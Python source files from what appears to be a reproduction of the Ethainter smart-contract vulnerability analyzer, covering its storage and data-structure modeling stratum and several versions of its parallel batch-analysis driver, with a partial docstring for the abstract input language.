            summaries[position].entries.append(entry)
    for summary in summaries:
        summary.orchestrator = stats.as_dict()
        if degraded_reason is not None:
            summary.degraded = True
            summary.degraded_reason = degraded_reason
    return summaries
