"""Storage and data-structure modeling (paper §4.3, Figure 4).

Computes, over the extracted facts:

* **copy closure** — value equalities through ``PHI`` statements and the
  constant-address memory model (a flow-insensitive but address-precise
  rendering of §5's "memory modeled much like variables"),
* **DS/DSA** — the sender-keyed data-structure relations of Figure 4:
  ``DS(x)`` = x holds a data-structure element keyed by the caller,
  ``DSA(x)`` = x is the *address* of such an element.  ``sender``
  (``CALLER`` results) seeds DS; hashing a DS value gives a DSA; address
  arithmetic preserves DSA; loading through a DSA address gives DS,
* **StorageAliasVar** — ``x ~ S(v)``: x is a copy of the value loaded from
  constant slot v (used by guard rules Uguard-T and the computed sinks of
  §4.5),
* **mapping roots** — each resolved ``SHA3`` chain is attributed to the root
  mapping's constant base slot, giving the granularity at which "attacker
  can write an arbitrary element of mapping b" is tracked.

All of these are taint-independent and computed before the main fixpoint —
the paper's "previous stratum" (Figure 2 caption).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.core.facts import ContractFacts


@dataclass
class MappingAccess:
    """A resolved mapping-element address: root base slot + outermost key."""

    address_var: str  # the SHA3 result used as a storage address
    base_slot: int  # root mapping's declared slot
    key_var: str  # key of this (innermost) lookup


@dataclass
class StorageModel:
    """Static value/data-structure information for one contract."""

    facts: ContractFacts
    # var -> set of vars it copies from (transitive, includes itself)
    copy_sources: Dict[str, Set[str]] = field(default_factory=dict)
    ds_vars: Set[str] = field(default_factory=set)
    dsa_vars: Set[str] = field(default_factory=set)
    storage_alias: Dict[str, Set[int]] = field(default_factory=dict)  # x ~ S(v)
    mapping_accesses: Dict[str, MappingAccess] = field(default_factory=dict)
    mem_var_of: Dict[int, str] = field(default_factory=dict)
    # Value-analysis resolution (populated only when the facts carry the
    # VariableValues relation): computed, non-constant storage indices whose
    # candidate slots the value-set stratum bounded.
    resolved_store_slots: Dict[str, Tuple[int, ...]] = field(default_factory=dict)
    resolved_load_slots: Dict[str, Tuple[int, ...]] = field(default_factory=dict)
    # x ~ S(v) through a value-resolved (singleton) load address.
    value_alias: Dict[str, Set[int]] = field(default_factory=dict)
    value_resolved_mappings: int = 0

    def is_sender_derived(self, variable: str) -> bool:
        """Whether ``variable`` is DS (holds sender-keyed data or the sender)."""
        return variable in self.ds_vars

    def aliases_of(self, variable: str) -> Set[int]:
        """Constant storage slots ``variable`` is a loaded copy of."""
        return self.storage_alias.get(variable, set())

    def value_aliases_of(self, variable: str) -> Set[int]:
        """Slots ``variable`` aliases only via the value-analysis stratum."""
        return self.value_alias.get(variable, set())


def memory_var(address: int) -> str:
    """Pseudo-variable name for the memory word at a constant address."""
    return "m0x%x" % address


def build_storage_model(facts: ContractFacts) -> StorageModel:
    """Compute the taint-independent static strata (copies, DS/DSA,
    aliases, mapping roots) for one contract."""
    model = StorageModel(facts=facts)

    # ------------------------------------------------------ copy closure
    # Direct copy edges: PHI statements, plus memory-word round trips.
    direct: Dict[str, Set[str]] = {}

    def add_copy(source: str, dest: str) -> None:
        direct.setdefault(dest, set()).add(source)

    for source, dest in facts.copy_edges:
        add_copy(source, dest)
    for write in facts.memory_writes:
        add_copy(write.var, memory_var(write.address))
        model.mem_var_of[write.address] = memory_var(write.address)
    for read in facts.memory_reads:
        add_copy(memory_var(read.address), read.var)

    # Transitive closure per variable, memoized (graphs are small and the
    # copy relation is acyclic except through PHIs; guard with a visited set).
    closure_cache: Dict[str, Set[str]] = {}

    def closure(variable: str) -> Set[str]:
        cached = closure_cache.get(variable)
        if cached is not None:
            return cached
        result: Set[str] = {variable}
        closure_cache[variable] = result  # break PHI cycles
        for source in direct.get(variable, ()):
            result.update(closure(source))
        return result

    all_vars: Set[str] = set(direct)
    for sources in direct.values():
        all_vars.update(sources)
    for variable in all_vars:
        model.copy_sources[variable] = closure(variable)

    def sources_of(variable: str) -> Set[str]:
        return model.copy_sources.get(variable, {variable})

    # -------------------------------------------------- storage aliasing
    for load in facts.storage_loads:
        if load.const_slot is None or load.def_var is None:
            continue
        model.storage_alias.setdefault(load.def_var, set()).add(load.const_slot)
    # Extend through copies: any var copying a loaded var aliases its slot.
    for variable in all_vars:
        for source in sources_of(variable):
            slots = model.storage_alias.get(source)
            if slots:
                model.storage_alias.setdefault(variable, set()).update(slots)

    # ---------------------------------------------- value-set resolution
    # When the facts carry the VariableValues relation, bound the candidate
    # slots of computed (non-constant) storage indices.  These feed the
    # taint stratum (StorageWrite-2 blast-radius shrinking) and the guard
    # stratum (singleton-resolved loads alias their slot like constant
    # loads do) but deliberately do NOT promote accesses to ``const_slot``:
    # StorageWrite-1 / StorageLoad stay keyed on directly-constant indices,
    # keeping the value-analysis configuration's warnings a subset of the
    # conservative configuration's.
    if facts.variable_values:
        for store in facts.storage_stores:
            if store.const_slot is not None:
                continue
            candidates = facts.value_set(store.address_var)
            if candidates:
                model.resolved_store_slots[store.statement.ident] = tuple(
                    sorted(candidates)
                )
        for load in facts.storage_loads:
            if load.const_slot is not None or load.def_var is None:
                continue
            candidates = facts.value_set(load.address_var)
            if not candidates:
                continue
            model.resolved_load_slots[load.statement.ident] = tuple(
                sorted(candidates)
            )
            if len(candidates) == 1:
                model.value_alias.setdefault(load.def_var, set()).add(
                    next(iter(candidates))
                )
        # Extend value aliases through copies, mirroring storage_alias.
        if model.value_alias:
            for variable in all_vars:
                for source in sources_of(variable):
                    slots = model.value_alias.get(source)
                    if slots:
                        model.value_alias.setdefault(variable, set()).update(slots)

    # ------------------------------------------------------ DS / DSA
    # Fixpoint over the Figure 4 rules plus copy propagation.
    ds: Set[str] = set(facts.caller_defs)
    dsa: Set[str] = set()

    # Pre-index flow shapes.
    op_edges: List[Tuple[str, str]] = []  # (operand, result) for DATA_OPS
    for source, dest, stmt in facts.flow_edges:
        if stmt.opcode not in ("PHI", "SHA3"):
            op_edges.append((source, dest))

    copy_edges_all: List[Tuple[str, str]] = []
    for dest, sources in direct.items():
        for source in sources:
            copy_edges_all.append((source, dest))

    changed = True
    while changed:
        changed = False
        # DS-Lookup / DSA-Lookup: hashing DS or DSA data yields a DSA.
        for hash_fact in facts.hashes:
            if hash_fact.def_var in dsa:
                continue
            if any(arg in ds or arg in dsa for arg in hash_fact.args):
                dsa.add(hash_fact.def_var)
                changed = True
        # DS-AddrOp: arithmetic over a DSA stays a DSA.
        for source, dest in op_edges:
            if source in dsa and dest not in dsa:
                dsa.add(dest)
                changed = True
        # Copies preserve both relations.
        for source, dest in copy_edges_all:
            if source in ds and dest not in ds:
                ds.add(dest)
                changed = True
            if source in dsa and dest not in dsa:
                dsa.add(dest)
                changed = True
        # DSA-Load: dereferencing a DSA address yields DS data.
        for load in facts.storage_loads:
            if load.def_var is None or load.def_var in ds:
                continue
            if load.address_var in dsa:
                ds.add(load.def_var)
                changed = True
    model.ds_vars = ds
    model.dsa_vars = dsa

    # ------------------------------------------------- mapping attribution
    # Resolve each SHA3 chain to its root mapping slot: SHA3(key, base) where
    # base is a constant, or base is itself an attributed mapping address.
    pending = list(facts.hashes)
    progress = True
    while progress and pending:
        progress = False
        remaining = []
        for hash_fact in pending:
            if len(hash_fact.args) != 2:
                continue  # not a mapping-slot computation
            key_var, base_var = hash_fact.args
            base_slot: Optional[int] = None
            base_const = facts.const.get(base_var)
            if base_const is not None:
                base_slot = base_const
            else:
                # A base slot that is not directly constant may still be a
                # value-analysis singleton (e.g. spilled through a memory
                # local and reloaded).
                candidates = facts.value_set(base_var)
                if candidates is not None and len(candidates) == 1:
                    base_slot = next(iter(candidates))
                    model.value_resolved_mappings += 1
                else:
                    for source in sources_of(base_var):
                        attributed = model.mapping_accesses.get(source)
                        if attributed is not None:
                            base_slot = attributed.base_slot
                            break
            if base_slot is None:
                remaining.append(hash_fact)
                continue
            model.mapping_accesses[hash_fact.def_var] = MappingAccess(
                address_var=hash_fact.def_var,
                base_slot=base_slot,
                key_var=key_var,
            )
            progress = True
        pending = remaining

    return model
