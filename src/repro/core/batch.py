"""Parallel batch analysis.

The paper analyzes the whole chain with "45 concurrent analysis processes"
(§6); this module is the equivalent driver: it fans contract bytecodes out
over a process pool (falling back to in-process execution for ``jobs=1`` or
when a pool cannot be created) and collects per-contract summaries.

Worker processes return compact :class:`BatchEntry` summaries rather than
full :class:`~repro.core.analysis.AnalysisResult` objects — the heavyweight
artifacts (TAC program, taint sets) do not pickle cheaply and batch users
only need the verdicts.
"""

from __future__ import annotations

import multiprocessing
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.analysis import AnalysisConfig, analyze_bytecode
from repro.core.vulnerabilities import VULNERABILITY_KINDS


@dataclass
class BatchEntry:
    """Per-contract summary from a batch run."""

    index: int
    kinds: Tuple[str, ...]
    error: Optional[str]
    elapsed_seconds: float
    statement_count: int

    @property
    def flagged(self) -> bool:
        return bool(self.kinds)


@dataclass
class BatchSummary:
    entries: List[BatchEntry] = field(default_factory=list)

    @property
    def total(self) -> int:
        return len(self.entries)

    @property
    def flagged(self) -> int:
        return sum(1 for entry in self.entries if entry.flagged)

    @property
    def errors(self) -> int:
        return sum(1 for entry in self.entries if entry.error)

    def kind_counts(self) -> Dict[str, int]:
        counts = {kind: 0 for kind in VULNERABILITY_KINDS}
        for entry in self.entries:
            for kind in entry.kinds:
                counts[kind] = counts.get(kind, 0) + 1
        return counts

    @property
    def total_analysis_seconds(self) -> float:
        return sum(entry.elapsed_seconds for entry in self.entries)


# Module-level worker state, initialized per process (configs are small and
# picklable; passing them once via the initializer avoids re-pickling per
# task).
_WORKER_CONFIG: Optional[AnalysisConfig] = None


def _init_worker(config: AnalysisConfig) -> None:
    global _WORKER_CONFIG
    _WORKER_CONFIG = config


def _analyze_one(task: Tuple[int, bytes]) -> BatchEntry:
    index, runtime = task
    result = analyze_bytecode(runtime, _WORKER_CONFIG)
    return BatchEntry(
        index=index,
        kinds=tuple(sorted({warning.kind for warning in result.warnings})),
        error=result.error,
        elapsed_seconds=result.elapsed_seconds,
        statement_count=result.statement_count,
    )


def analyze_many(
    bytecodes: Sequence[bytes],
    config: Optional[AnalysisConfig] = None,
    jobs: int = 1,
) -> BatchSummary:
    """Analyze ``bytecodes``; ``jobs > 1`` uses a process pool.

    Entries come back ordered by input index regardless of completion
    order.
    """
    config = config or AnalysisConfig()
    tasks = list(enumerate(bytecodes))
    summary = BatchSummary()

    if jobs <= 1 or len(tasks) < 2:
        _init_worker(config)
        summary.entries = [_analyze_one(task) for task in tasks]
        return summary

    try:
        context = multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX platforms
        context = multiprocessing.get_context()
    try:
        with context.Pool(
            processes=jobs, initializer=_init_worker, initargs=(config,)
        ) as pool:
            entries = pool.map(_analyze_one, tasks, chunksize=max(1, len(tasks) // (jobs * 4)))
    except (OSError, RuntimeError):  # pool unavailable: degrade gracefully
        _init_worker(config)
        entries = [_analyze_one(task) for task in tasks]
    summary.entries = sorted(entries, key=lambda entry: entry.index)
    return summary
