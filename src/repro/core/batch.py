"""Batch analysis data model and the legacy process-pool executor.

The paper analyzes the whole chain with "45 concurrent analysis processes"
(§6).  The *supervised* driver for that workload lives in
:mod:`repro.core.orchestrator` (watchdog, crash isolation, retries, worker
recycling, checkpoint journal); this module keeps:

* the wire/data model — :class:`BatchEntry` / :class:`BatchSummary` — shared
  by every executor,
* the legacy ``multiprocessing.Pool`` executor (``executor="pool"``), kept
  as the overhead baseline for the orchestrator benchmarks,
* the deprecated deep-import entry points :func:`analyze_many` /
  :func:`analyze_battery`, now thin shims over :mod:`repro.api`.

Worker processes return compact :class:`BatchEntry` summaries rather than
full :class:`~repro.core.analysis.AnalysisResult` objects — the heavyweight
artifacts (TAC program, taint sets) do not pickle cheaply; entries carry
just the verdicts (kinds plus warning records), the per-stage timing
profile, and scalar counters.
"""

from __future__ import annotations

import multiprocessing
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.analysis import AnalysisConfig, AnalysisResult, EthainterAnalysis
from repro.core.pipeline import ArtifactCache


@dataclass
class BatchEntry:
    """Per-contract summary from a batch run.

    ``error`` carries a taxonomy prefix before the first ``:`` —
    ``timeout`` and ``lift-error`` come from the analysis itself;
    ``worker_crashed``, ``watchdog_killed`` and ``task_failed`` come from
    the orchestrator (see :attr:`error_kind`).
    """

    index: int
    kinds: Tuple[str, ...]
    error: Optional[str]
    elapsed_seconds: float
    statement_count: int
    deadline_exceeded: bool = False
    stage_seconds: Dict[str, float] = field(default_factory=dict)
    cache_hits: int = 0
    cache_misses: int = 0
    # Datalog engine counters (derived_facts, join_probes, iterations, ...)
    # when a datalog engine ran the taint stage — the full
    # ``EngineStats.as_dict()`` payload, non-scalar members (per-rule
    # derivation maps, per-stratum iteration lists) included, so a report
    # built from an entry is byte-identical to one built from the
    # in-process result.  Aggregators sum only the int-valued counters.
    datalog: Dict[str, object] = field(default_factory=dict)
    block_count: int = 0
    # Full warning records ({kind, pc, statement, slot, detail}) so sweep
    # reports built from batch entries match single-contract reports.
    warnings: List[Dict] = field(default_factory=list)
    precision: Dict[str, int] = field(default_factory=dict)
    # How many dispatch attempts this task took (orchestrator retries).
    attempts: int = 1

    @property
    def flagged(self) -> bool:
        return bool(self.kinds)

    @property
    def error_kind(self) -> Optional[str]:
        """The error taxonomy bucket: the prefix before the first ``:``."""
        if not self.error:
            return None
        return self.error.split(":", 1)[0].strip()


@dataclass
class BatchSummary:
    entries: List[BatchEntry] = field(default_factory=list)
    # Set when the process pool could not be used and the batch fell back
    # to in-process execution (previously this degradation was silent).
    degraded: bool = False
    degraded_reason: str = ""
    # Orchestrator counters (crashes, watchdog_kills, retries, recycles,
    # resumed, ...) for the executor that produced this summary; empty for
    # the legacy pool path.  See OrchestratorStats.as_dict().
    orchestrator: Dict[str, object] = field(default_factory=dict)

    @property
    def total(self) -> int:
        return len(self.entries)

    @property
    def flagged(self) -> int:
        return sum(1 for entry in self.entries if entry.flagged)

    @property
    def errors(self) -> int:
        return sum(1 for entry in self.entries if entry.error)

    @property
    def deadline_exceeded(self) -> int:
        """Runs that crossed the budget (aborted *or* late-finished)."""
        return sum(1 for entry in self.entries if entry.deadline_exceeded)

    @property
    def cache_hits(self) -> int:
        return sum(entry.cache_hits for entry in self.entries)

    @property
    def cache_misses(self) -> int:
        return sum(entry.cache_misses for entry in self.entries)

    def _orchestrator_count(self, name: str) -> int:
        value = self.orchestrator.get(name, 0)
        return int(value) if isinstance(value, (int, float)) else 0

    @property
    def tasks_total(self) -> int:
        """Submissions in the sweep (duplicates included)."""
        return self._orchestrator_count("tasks_total")

    @property
    def tasks_unique(self) -> int:
        """Unique sweep identities (sha256(bytecode) + config fingerprint)."""
        return self._orchestrator_count("tasks_unique")

    @property
    def dedup_hits(self) -> int:
        """Duplicate submissions resolved by fanning out a representative."""
        return self._orchestrator_count("dedup_hits")

    @property
    def result_cache_hits(self) -> int:
        """Identities resolved from the cross-run disk result cache."""
        return self._orchestrator_count("result_cache_hits")

    def kind_counts(self) -> Dict[str, int]:
        from repro.core.vulnerabilities import VULNERABILITY_KINDS

        counts = {kind: 0 for kind in VULNERABILITY_KINDS}
        for entry in self.entries:
            for kind in entry.kinds:
                counts[kind] = counts.get(kind, 0) + 1
        return counts

    def error_kind_counts(self) -> Dict[str, int]:
        """Errored entries bucketed by taxonomy prefix."""
        counts: Dict[str, int] = {}
        for entry in self.entries:
            kind = entry.error_kind
            if kind:
                counts[kind] = counts.get(kind, 0) + 1
        return counts

    def stage_seconds(self) -> Dict[str, float]:
        """Aggregate wall-clock per pipeline stage across all entries."""
        totals: Dict[str, float] = {}
        for entry in self.entries:
            for name, seconds in entry.stage_seconds.items():
                totals[name] = totals.get(name, 0.0) + seconds
        return totals

    def datalog_totals(self) -> Dict[str, int]:
        """Summed Datalog engine counters across all entries (empty when
        the batch ran on the Python fixpoint) — slow contracts are
        diagnosable from derivation/probe volume without rerunning.
        Non-scalar stats members (per-rule maps, per-stratum lists) are
        per-entry detail and are skipped here."""
        totals: Dict[str, int] = {}
        for entry in self.entries:
            for name, value in entry.datalog.items():
                if isinstance(value, int):
                    totals[name] = totals.get(name, 0) + value
        return totals

    @property
    def total_analysis_seconds(self) -> float:
        return sum(entry.elapsed_seconds for entry in self.entries)


def _entry_from_result(index: int, result: AnalysisResult) -> BatchEntry:
    stats = result.datalog_stats or {}
    return BatchEntry(
        index=index,
        kinds=tuple(sorted({warning.kind for warning in result.warnings})),
        error=result.error,
        elapsed_seconds=result.elapsed_seconds,
        statement_count=result.statement_count,
        deadline_exceeded=result.deadline_exceeded,
        stage_seconds=result.stage_seconds(),
        cache_hits=result.cache_hits,
        cache_misses=result.cache_misses,
        datalog=dict(stats),
        block_count=result.block_count,
        warnings=[
            {
                "kind": warning.kind,
                "pc": warning.pc,
                "statement": warning.statement,
                "slot": warning.slot,
                "detail": warning.detail,
            }
            for warning in result.warnings
        ],
        precision=result.precision.as_dict(),
    )


# Module-level worker state, initialized per process (configs are small and
# picklable; passing them once via the initializer avoids re-pickling per
# task — and keeps the initializer spawn-safe: no state crosses process
# boundaries except these explicit, picklable arguments).  The cache lives
# per worker process: it cannot be shared across processes, but within one
# worker it de-duplicates repeated bytecodes and, for battery runs, shares
# the ablation-independent prefix across configs.
_WORKER_CONFIGS: Tuple[AnalysisConfig, ...] = ()
_WORKER_CACHE: Optional[ArtifactCache] = None
_WORKER_WARM = None  # WarmEngineCache when any config runs a datalog tier


def _init_worker(
    configs: Tuple[AnalysisConfig, ...], cache_entries: int = 0
) -> None:
    global _WORKER_CONFIGS, _WORKER_CACHE, _WORKER_WARM
    _WORKER_CONFIGS = configs
    _WORKER_CACHE = ArtifactCache(cache_entries) if cache_entries > 0 else None
    _WORKER_WARM = None
    if any(
        getattr(config, "engine", "python").startswith("datalog")
        for config in configs
    ):
        from repro.core.bytecode_datalog import WarmEngineCache

        # Battery runs analyze one contract under several configurations
        # in the same worker: the warm cache lets the datalog tiers repair
        # one live fixpoint per contract (DRed) across the flag flips.
        _WORKER_WARM = WarmEngineCache()


def _analyze_one(task: Tuple[int, bytes]) -> Tuple[BatchEntry, ...]:
    index, runtime = task
    return tuple(
        _entry_from_result(
            index,
            EthainterAnalysis(
                config, cache=_WORKER_CACHE, warm=_WORKER_WARM
            ).analyze(runtime),
        )
        for config in _WORKER_CONFIGS[:1]
    )


def _analyze_battery_one(task: Tuple[int, bytes]) -> Tuple[BatchEntry, ...]:
    """Analyze one contract under every configured ablation, sharing the
    worker cache so the lift+extract prefix is computed once."""
    index, runtime = task
    return tuple(
        _entry_from_result(
            index,
            EthainterAnalysis(
                config, cache=_WORKER_CACHE, warm=_WORKER_WARM
            ).analyze(runtime),
        )
        for config in _WORKER_CONFIGS
    )


def _pool_run(tasks, worker, configs, jobs, cache_entries, context=None):
    """Run ``worker`` over ``tasks`` on a legacy process pool; returns
    (rows, degraded_reason).  ``context`` is a resolved multiprocessing
    context (see :func:`repro.core.orchestrator.resolve_mp_context`) —
    no start method is hard-coded here anymore."""
    if context is None:
        from repro.core.orchestrator import resolve_mp_context

        context = resolve_mp_context()
    chunksize = max(1, len(tasks) // (jobs * 4))
    try:
        with context.Pool(
            processes=jobs,
            initializer=_init_worker,
            initargs=(configs, cache_entries),
        ) as pool:
            # imap_unordered: collect completions as they arrive instead of
            # blocking on in-order delivery behind the slowest contract.
            return list(pool.imap_unordered(worker, tasks, chunksize=chunksize)), None
    except (OSError, RuntimeError) as error:  # pool unavailable: degrade
        reason = "%s: %s" % (type(error).__name__, error)
        _init_worker(configs, cache_entries)
        return [worker(task) for task in tasks], reason


def analyze_many(
    bytecodes: Sequence[bytes],
    config: Optional[AnalysisConfig] = None,
    jobs: int = 1,
    cache: Optional[ArtifactCache] = None,
    **options,
) -> BatchSummary:
    """Deprecated deep-import shim for :func:`repro.api.sweep`.

    Entries come back ordered by input index regardless of completion
    order.  A shared ``cache`` is honored in-process; pool/orchestrator
    workers build their own per-process caches instead (caches do not
    cross process boundaries).
    """
    from repro._compat import warn_deprecated_entry
    from repro import api

    warn_deprecated_entry("repro.core.batch.analyze_many", "repro.api.sweep")
    return api.sweep(bytecodes, config, jobs=jobs, cache=cache, **options)


def analyze_battery(
    bytecodes: Sequence[bytes],
    configs: Sequence[AnalysisConfig],
    jobs: int = 1,
    cache: Optional[ArtifactCache] = None,
    **options,
) -> List[BatchSummary]:
    """Deprecated deep-import shim for :func:`repro.api.battery`.

    Returns one :class:`BatchSummary` per configuration, index-aligned with
    ``configs``.  All configurations of one contract run in the same worker
    against a shared :class:`ArtifactCache`, so stages whose configuration
    fingerprints agree (the lift/facts/storage/guards prefix for the Fig. 8
    ablations) are computed once per contract.
    """
    from repro._compat import warn_deprecated_entry
    from repro import api

    warn_deprecated_entry("repro.core.batch.analyze_battery", "repro.api.battery")
    return api.battery(bytecodes, configs, jobs=jobs, cache=cache, **options)
