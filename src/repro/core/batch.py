"""Parallel batch analysis.

The paper analyzes the whole chain with "45 concurrent analysis processes"
(§6); this module is the equivalent driver: it fans contract bytecodes out
over a process pool (falling back to in-process execution for ``jobs=1`` or
when a pool cannot be created — recorded as a *degraded* run, never
silently) and collects per-contract summaries as they complete
(``imap_unordered``), so one slow contract does not delay collection of the
rest.

Worker processes return compact :class:`BatchEntry` summaries rather than
full :class:`~repro.core.analysis.AnalysisResult` objects — the heavyweight
artifacts (TAC program, taint sets) do not pickle cheaply and batch users
only need the verdicts plus the per-stage timing profile.

:func:`analyze_battery` runs *several configurations* (e.g. the Fig. 8
four-config ablation battery) over one corpus, sharing a per-worker
:class:`~repro.core.pipeline.ArtifactCache` so the configuration-independent
lift/facts/storage/guards prefix is computed once per contract instead of
once per (contract, configuration).
"""

from __future__ import annotations

import multiprocessing
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.analysis import AnalysisConfig, AnalysisResult, analyze_bytecode
from repro.core.pipeline import ArtifactCache
from repro.core.vulnerabilities import VULNERABILITY_KINDS


@dataclass
class BatchEntry:
    """Per-contract summary from a batch run."""

    index: int
    kinds: Tuple[str, ...]
    error: Optional[str]
    elapsed_seconds: float
    statement_count: int
    deadline_exceeded: bool = False
    stage_seconds: Dict[str, float] = field(default_factory=dict)
    cache_hits: int = 0
    cache_misses: int = 0
    # Flat Datalog engine counters (derived_facts, join_probes, iterations,
    # ...) when a datalog engine ran the taint stage — kept scalar-only so
    # entries stay cheap to pickle back from pool workers.
    datalog: Dict[str, int] = field(default_factory=dict)

    @property
    def flagged(self) -> bool:
        return bool(self.kinds)


@dataclass
class BatchSummary:
    entries: List[BatchEntry] = field(default_factory=list)
    # Set when the process pool could not be used and the batch fell back
    # to in-process execution (previously this degradation was silent).
    degraded: bool = False
    degraded_reason: str = ""

    @property
    def total(self) -> int:
        return len(self.entries)

    @property
    def flagged(self) -> int:
        return sum(1 for entry in self.entries if entry.flagged)

    @property
    def errors(self) -> int:
        return sum(1 for entry in self.entries if entry.error)

    @property
    def deadline_exceeded(self) -> int:
        """Runs that crossed the budget (aborted *or* late-finished)."""
        return sum(1 for entry in self.entries if entry.deadline_exceeded)

    @property
    def cache_hits(self) -> int:
        return sum(entry.cache_hits for entry in self.entries)

    @property
    def cache_misses(self) -> int:
        return sum(entry.cache_misses for entry in self.entries)

    def kind_counts(self) -> Dict[str, int]:
        counts = {kind: 0 for kind in VULNERABILITY_KINDS}
        for entry in self.entries:
            for kind in entry.kinds:
                counts[kind] = counts.get(kind, 0) + 1
        return counts

    def stage_seconds(self) -> Dict[str, float]:
        """Aggregate wall-clock per pipeline stage across all entries."""
        totals: Dict[str, float] = {}
        for entry in self.entries:
            for name, seconds in entry.stage_seconds.items():
                totals[name] = totals.get(name, 0.0) + seconds
        return totals

    def datalog_totals(self) -> Dict[str, int]:
        """Summed Datalog engine counters across all entries (empty when
        the batch ran on the Python fixpoint) — slow contracts are
        diagnosable from derivation/probe volume without rerunning."""
        totals: Dict[str, int] = {}
        for entry in self.entries:
            for name, value in entry.datalog.items():
                totals[name] = totals.get(name, 0) + value
        return totals

    @property
    def total_analysis_seconds(self) -> float:
        return sum(entry.elapsed_seconds for entry in self.entries)


def _entry_from_result(index: int, result: AnalysisResult) -> BatchEntry:
    stats = result.datalog_stats or {}
    return BatchEntry(
        index=index,
        kinds=tuple(sorted({warning.kind for warning in result.warnings})),
        error=result.error,
        elapsed_seconds=result.elapsed_seconds,
        statement_count=result.statement_count,
        deadline_exceeded=result.deadline_exceeded,
        stage_seconds=result.stage_seconds(),
        cache_hits=result.cache_hits,
        cache_misses=result.cache_misses,
        datalog={
            name: value
            for name, value in stats.items()
            if isinstance(value, int)
        },
    )


# Module-level worker state, initialized per process (configs are small and
# picklable; passing them once via the initializer avoids re-pickling per
# task).  The cache lives per worker process: it cannot be shared across
# processes, but within one worker it de-duplicates repeated bytecodes and,
# for battery runs, shares the ablation-independent prefix across configs.
_WORKER_CONFIGS: Tuple[AnalysisConfig, ...] = ()
_WORKER_CACHE: Optional[ArtifactCache] = None


def _init_worker(
    configs: Tuple[AnalysisConfig, ...], cache_entries: int = 0
) -> None:
    global _WORKER_CONFIGS, _WORKER_CACHE
    _WORKER_CONFIGS = configs
    _WORKER_CACHE = ArtifactCache(cache_entries) if cache_entries > 0 else None


def _analyze_one(task: Tuple[int, bytes]) -> BatchEntry:
    index, runtime = task
    result = analyze_bytecode(runtime, _WORKER_CONFIGS[0], cache=_WORKER_CACHE)
    return _entry_from_result(index, result)


def _analyze_battery_one(task: Tuple[int, bytes]) -> Tuple[BatchEntry, ...]:
    """Analyze one contract under every configured ablation, sharing the
    worker cache so the lift+extract prefix is computed once."""
    index, runtime = task
    return tuple(
        _entry_from_result(
            index, analyze_bytecode(runtime, config, cache=_WORKER_CACHE)
        )
        for config in _WORKER_CONFIGS
    )


def _pool_run(tasks, worker, configs, jobs, cache_entries):
    """Run ``worker`` over ``tasks`` on a process pool; returns
    (results, degraded_reason)."""
    try:
        context = multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX platforms
        context = multiprocessing.get_context()
    chunksize = max(1, len(tasks) // (jobs * 4))
    try:
        with context.Pool(
            processes=jobs,
            initializer=_init_worker,
            initargs=(configs, cache_entries),
        ) as pool:
            # imap_unordered: collect completions as they arrive instead of
            # blocking on in-order delivery behind the slowest contract.
            return list(pool.imap_unordered(worker, tasks, chunksize=chunksize)), None
    except (OSError, RuntimeError) as error:  # pool unavailable: degrade
        reason = "%s: %s" % (type(error).__name__, error)
        _init_worker(configs, cache_entries)
        return [worker(task) for task in tasks], reason


def analyze_many(
    bytecodes: Sequence[bytes],
    config: Optional[AnalysisConfig] = None,
    jobs: int = 1,
    cache: Optional[ArtifactCache] = None,
) -> BatchSummary:
    """Analyze ``bytecodes``; ``jobs > 1`` uses a process pool.

    Entries come back ordered by input index regardless of completion
    order.  A shared ``cache`` is honored in-process; pool workers build
    their own per-process caches instead (caches do not cross ``fork``).
    """
    config = config or AnalysisConfig()
    tasks = list(enumerate(bytecodes))
    summary = BatchSummary()

    if jobs <= 1 or len(tasks) < 2:
        local_cache = cache if cache is not None else ArtifactCache()
        entries = [
            _entry_from_result(
                index, analyze_bytecode(runtime, config, cache=local_cache)
            )
            for index, runtime in tasks
        ]
        summary.entries = entries
        return summary

    entries, degraded_reason = _pool_run(
        tasks, _analyze_one, (config,), jobs, cache_entries=256
    )
    if degraded_reason is not None:
        summary.degraded = True
        summary.degraded_reason = degraded_reason
    summary.entries = sorted(entries, key=lambda entry: entry.index)
    return summary


def analyze_battery(
    bytecodes: Sequence[bytes],
    configs: Sequence[AnalysisConfig],
    jobs: int = 1,
    cache: Optional[ArtifactCache] = None,
) -> List[BatchSummary]:
    """Analyze ``bytecodes`` under every configuration in ``configs``.

    Returns one :class:`BatchSummary` per configuration, index-aligned with
    ``configs``.  All configurations of one contract run in the same worker
    against a shared :class:`ArtifactCache`, so stages whose configuration
    fingerprints agree (the lift/facts/storage/guards prefix for the Fig. 8
    ablations) are computed once per contract.
    """
    if not configs:
        raise ValueError("analyze_battery needs at least one configuration")
    configs = tuple(configs)
    tasks = list(enumerate(bytecodes))
    summaries = [BatchSummary() for _ in configs]

    if jobs <= 1 or len(tasks) < 2:
        local_cache = cache if cache is not None else ArtifactCache(
            max_entries=max(4096, 8 * len(tasks) * max(len(configs), 1))
        )
        rows = [
            tuple(
                _entry_from_result(
                    index, analyze_bytecode(runtime, config, cache=local_cache)
                )
                for config in configs
            )
            for index, runtime in tasks
        ]
        degraded_reason = None
    else:
        rows, degraded_reason = _pool_run(
            tasks, _analyze_battery_one, configs, jobs, cache_entries=256
        )
    for row in sorted(rows, key=lambda row: row[0].index):
        for position, entry in enumerate(row):
            summaries[position].entries.append(entry)
    if degraded_reason is not None:
        for summary in summaries:
            summary.degraded = True
            summary.degraded_reason = degraded_reason
    return summaries
