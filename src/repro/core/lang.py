"""The abstract input language of paper §4 (Figure 1).

Instructions::

    x := OP(y, z)       operation (arithmetic/boolean/equality/phi)
    x := INPUT()        taint source
    x := HASH(y)        collision-free hash
    x := GUARD(p, y)    x receives y sanitized under sender-predicate p
    SSTORE(f, t)        persistent store: value f to address t
    SLOAD(f, t)         persistent load: address f to variable t
    SINK(x)             sensitive instruction (taint sink)
    CALL(c)             external call c (reentrancy stratum; STATIC
                        variant cannot re-enter)

plus ``x := CONST(v)`` to populate the (elided in the paper) ConstValue
relation, and the reserved variable ``sender``.

The taint relations stay flow-insensitive as in the paper; ``CALL`` is the
one instruction whose *position* matters — the reentrancy stratum reads
straight-line order (SLOAD before / SSTORE after a call) off the
